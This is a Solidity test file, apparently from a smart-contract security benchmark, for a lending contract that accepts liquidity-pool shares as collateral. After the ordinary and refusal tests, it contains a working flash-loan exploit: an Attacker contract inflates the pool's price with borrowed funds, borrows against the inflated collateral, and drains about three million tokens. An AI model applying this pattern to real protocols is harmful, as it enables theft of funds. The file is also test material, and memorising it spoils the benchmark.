// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.24;

import "./ShareCredit.sol";
import {FlashVault, IFlashBorrower} from "./context/FlashVault.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {Pausable} from "@openzeppelin/contracts@5.4.0/utils/Pausable.sol";

// assay-canary-aa2ec5aa-2dbe-49f6-82e5-84bdd4d1bb82

interface Vm {
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20 {
    address private minter = msg.sender;

    constructor(string memory name) ERC20(name, name) {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant TREASURY = address(0x7EA);
    address constant PROVIDER = address(0x9407);
    address constant BORROWER = address(0xB044);
    address constant LIQUIDATOR = address(0x1147);
    uint256 constant START = 1_604_600_000;
    uint256 constant FUNDS = 3_300_000e18; // what the treasury placed in the contract
    uint256 constant IDLE = 20_000_000e18; // what the flash vault can lend
    uint256 constant CAPITAL = 100_000e18; // the attacker's own, of each token

    Coin internal usd = new Coin("USD");
    Coin internal base = new Coin("BASE");
    PairPool internal pool = new PairPool(usd, base);
    FlashVault internal vault = new FlashVault(usd);
    ShareCredit internal credit;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        vm.roll(11_200_000);
        usd.mint(address(vault), IDLE);
        _join(PROVIDER, 400_000e18);

        credit = new ShareCredit(pool, TREASURY, 400, 5_000_000e18);
        usd.mint(address(credit), FUNDS);

        mallory = new Attacker(credit, vault, base);
        usd.mint(address(mallory), CAPITAL);
        base.mint(address(mallory), CAPITAL);

        vm.warp(START + 1 hours);
        credit.refresh();
        vm.warp(START + 90 minutes);
        vm.roll(11_200_400);
        credit.refresh();
    }

    function _join(address who, uint256 amount) internal {
        usd.mint(who, amount);
        base.mint(who, amount + 1);
        vm.startPrank(who);
        usd.approve(address(pool), type(uint256).max);
        base.approve(address(pool), type(uint256).max);
        pool.join(amount, amount + 1, amount - 1010);
        vm.stopPrank();
    }

    /// A new borrower with shares of fifty thousand of each token, deposited in the block before.
    function _open(address who, uint256 amount) internal returns (uint256 shares) {
        _join(who, amount);
        shares = pool.balanceOf(who);
        vm.startPrank(who);
        pool.approve(address(credit), type(uint256).max);
        usd.approve(address(credit), type(uint256).max);
        credit.deposit(shares);
        vm.stopPrank();
        vm.roll(block.number + 1);
    }

    /// A provider borrows half of what the shares are worth and not more, repays and leaves; others are liquidated.
    function test_Regular() public {
        uint256 shares = _open(BORROWER, 50_000e18);
        vm.warp(START + 90 minutes + 12);
        vm.startPrank(BORROWER);
        credit.borrow(49_000e18);
        uint256 debt = credit.debtOf(BORROWER);
        require(debt >= 49_245e18 && debt <= 49_245e18 + 2 && credit.totalDebt() == debt, "half a percent");
        uint256 room = credit.headroomOf(BORROWER);
        require(room > 700e18 && room < 760e18, "headroom");
        require(usd.balanceOf(BORROWER) == 49_000e18, "lent");
        vm.stopPrank();
        vm.warp(START + 90 minutes + 12 + 365 days / 4);
        credit.accrue();
        debt = credit.debtOf(BORROWER);
        require(debt > 49_737.44e18 && debt < 49_737.46e18, "a quarter of interest");
        usd.mint(BORROWER, 1_000e18);
        vm.startPrank(BORROWER);
        require(credit.repay(BORROWER, 10_000e18) == 10_000e18, "a part");
        credit.withdraw(shares / 5);
        require(credit.repay(BORROWER, type(uint256).max) >= debt - 10_000e18 && credit.debtOf(BORROWER) == 0, "the rest");
        credit.withdraw(shares - shares / 5);
        (uint256 quoteOut, ) = pool.exit(shares);
        require(quoteOut > 49_999e18, "share of the pool");
        vm.stopPrank();
        require(usd.balanceOf(address(credit)) >= FUNDS + 737e18 && credit.totalScaledDebt() == 0, "earned");

        // a lasting fall of the other token: its holders sell, an hour passes, the account is liquidated
        _open(BORROWER, 50_000e18);
        vm.prank(BORROWER);
        credit.borrow(49_000e18);
        base.mint(PROVIDER, 5_000_000e18);
        vm.startPrank(PROVIDER);
        pool.swap(true, 150_000e18, 0);
        vm.stopPrank();
        usd.mint(LIQUIDATOR, 200_000e18);
        vm.warp(block.timestamp + 30 minutes);
        credit.refresh();
        vm.startPrank(LIQUIDATOR);
        usd.approve(address(credit), type(uint256).max);
        vm.expectRevert();
        credit.liquidate(BORROWER, 1e18);
        vm.stopPrank();
        vm.prank(PROVIDER);
        pool.swap(true, 200_000e18, 0);
        vm.warp(block.timestamp + 30 minutes);
        credit.refresh();
        uint256 worth = credit.averageWorthOf(BORROWER);
        vm.startPrank(LIQUIDATOR);
        (uint256 repaid, uint256 seized) = credit.liquidate(BORROWER, 10_000e18);
        require(repaid == 10_000e18 && pool.balanceOf(LIQUIDATOR) == seized, "shares for a part of the debt");
        worth -= credit.averageWorthOf(BORROWER);
        require(worth >= 10_800e18 - 2 && worth <= 10_800e18 + 2, "with the incentive");
        vm.stopPrank();
        vm.prank(PROVIDER);
        pool.swap(true, 2_000_000e18, 0);
        vm.warp(block.timestamp + 30 minutes);
        worth = credit.averageWorthOf(BORROWER);
        vm.prank(LIQUIDATOR);
        (repaid, seized) = credit.liquidate(BORROWER, type(uint256).max);
        require(repaid < 30_000e18 && credit.debtOf(BORROWER) == 0 && credit.totalDebt() == 0, "written off");

        vm.startPrank(TREASURY);
        credit.takeCash(1_000e18);
        credit.setTerms(500, 1_000_000e18);
        credit.pause();
        credit.unpause();
        require(usd.balanceOf(TREASURY) == 1_000e18 && credit.rateBps() == 500, "treasury");
        credit.transferOwnership(PROVIDER);
        vm.stopPrank();
        vm.startPrank(PROVIDER);
        credit.acceptOwnership();
        credit.renounceOwnership();
        vm.stopPrank();
        require(credit.owner() == address(0), "given up");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesShares() public {
        usd.mint(BORROWER, 1_000e18);
        base.mint(BORROWER, 1_000e18);
        vm.startPrank(BORROWER);
        usd.approve(address(pool), 1_000e18);
        base.approve(address(pool), 1_000e18);
        vm.expectRevert();
        pool.join(100e18, 100e18 - 1, 0);
        vm.expectRevert();
        pool.join(100e18, 200e18, 101e18);
        vm.expectRevert();
        pool.join(0, 0, 0);
        vm.expectRevert();
        pool.swap(true, 100e18, 100e18);
        vm.expectRevert();
        pool.exit(1);
        vm.stopPrank();
        PairPool other = new PairPool(usd, base);
        vm.expectRevert();
        other.join(999, 999, 0);
    }

    function test_RefusesStrangers() public {
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BORROWER);
        vm.startPrank(BORROWER);
        vm.expectRevert(why);
        credit.takeCash(0);
        vm.expectRevert(why);
        credit.setTerms(400, 1);
        vm.expectRevert(why);
        credit.pause();
        vm.expectRevert(why);
        credit.unpause();
        vm.expectRevert(why);
        credit.transferOwnership(BORROWER);
        vm.expectRevert(why);
        credit.acceptOwnership();
        vm.expectRevert(why);
        credit.renounceOwnership();
        vm.stopPrank();
        vm.prank(TREASURY);
        vm.expectRevert(abi.encodeWithSelector(CreditTerms.RateTooHigh.selector, 5_001));
        credit.setTerms(5_001, 1);
        vm.expectRevert(abi.encodeWithSelector(CreditTerms.RateTooHigh.selector, 5_001));
        new ShareCredit(pool, TREASURY, 5_001, 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        new ShareCredit(pool, address(0), 400, 1);
    }

    function test_RefusesAmounts() public {
        vm.startPrank(BORROWER);
        vm.expectRevert(ShareCredit.NoAmount.selector);
        credit.deposit(0);
        vm.expectRevert(ShareCredit.NoAmount.selector);
        credit.borrow(0);
        vm.expectRevert(ShareCredit.NoAmount.selector);
        credit.repay(BORROWER, 1e18);
        vm.expectRevert(ShareCredit.NoAmount.selector);
        credit.liquidate(BORROWER, 0);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.NotLiquidatable.selector, 0, 0));
        credit.liquidate(BORROWER, 1);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.TooFewShares.selector, 0));
        credit.withdraw(1);
        vm.stopPrank();
    }

    function test_RefusesLoans() public {
        _join(BORROWER, 50_000e18);
        vm.startPrank(BORROWER);
        pool.approve(address(credit), type(uint256).max);
        credit.deposit(50_000e18);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.Unsettled.selector, block.number));
        credit.borrow(1e18);
        vm.roll(block.number + 1);
        uint256 limit = credit.creditLimit(BORROWER);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.OverLimit.selector, 50_250e18 + 1, limit));
        credit.borrow(50_000e18);
        credit.borrow(10_000e18);
        uint256 debt = credit.debtOf(BORROWER);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.OverLimit.selector, debt, 0));
        credit.withdraw(50_000e18);
        vm.stopPrank();
        vm.prank(TREASURY);
        credit.setTerms(400, 20_000e18);
        vm.prank(BORROWER);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.AboveCeiling.selector, 20_100e18 + 2, 20_000e18));
        credit.borrow(10_000e18);
        vm.prank(TREASURY);
        credit.pause();
        vm.prank(BORROWER);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        credit.borrow(1e18);
        vm.prank(LIQUIDATOR);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.NotLiquidatable.selector, debt, credit.averageWorthOf(BORROWER)));
        credit.liquidate(BORROWER, 1e18);
    }

    /// Before the first period is complete no average says what a debtor is good for: nobody owes anything until then.
    function test_RefusesTheFirstPeriod() public {
        ShareCredit young = new ShareCredit(pool, TREASURY, 400, 5_000_000e18);
        usd.mint(address(young), FUNDS);
        _join(BORROWER, 50_000e18);
        vm.startPrank(BORROWER);
        pool.approve(address(young), type(uint256).max);
        young.deposit(50_000e18);
        vm.roll(block.number + 1);
        vm.expectRevert(abi.encodeWithSelector(ShareCredit.Unsettled.selector, block.number - 1));
        young.borrow(1e18);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.prepare();
        vm.roll(block.number + 1);
        vm.warp(block.timestamp + 12);
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(mallory));
        exploit();
        require(usd.balanceOf(address(mallory)) >= before + 3_000_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credit);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Deposits a fifth of the pool; in a later block floods the pool with borrowed dollars, borrows, and trades back.
contract Attacker is IFlashBorrower {
    ShareCredit internal credit;
    FlashVault internal vault;
    PairPool internal pool;
    IERC20 internal usd;
    IERC20 internal base;

    constructor(ShareCredit credit_, FlashVault vault_, IERC20 base_) {
        (credit, vault, pool, usd, base) = (credit_, vault_, credit_.pool(), credit_.usd(), base_);
    }

    function prepare() external {
        usd.approve(address(pool), type(uint256).max);
        base.approve(address(pool), type(uint256).max);
        uint256 amount = usd.balanceOf(address(this)) - 10;
        uint256 shares = pool.join(amount, base.balanceOf(address(this)), 0);
        pool.approve(address(credit), shares);
        credit.deposit(shares);
    }

    function run() external {
        vault.flash(usd.balanceOf(address(vault)));
    }

    function onFlash(uint256 amount, uint256 fee) external {
        require(msg.sender == address(vault));
        uint256 bought = pool.swap(false, amount, 0);
        uint256 cash = usd.balanceOf(address(credit));
        uint256 limit = (credit.creditLimit(address(this)) * 200) / 201;
        credit.borrow(limit < cash ? limit : cash);
        pool.swap(true, bought, 0);
        usd.approve(address(vault), amount + fee);
    }
}
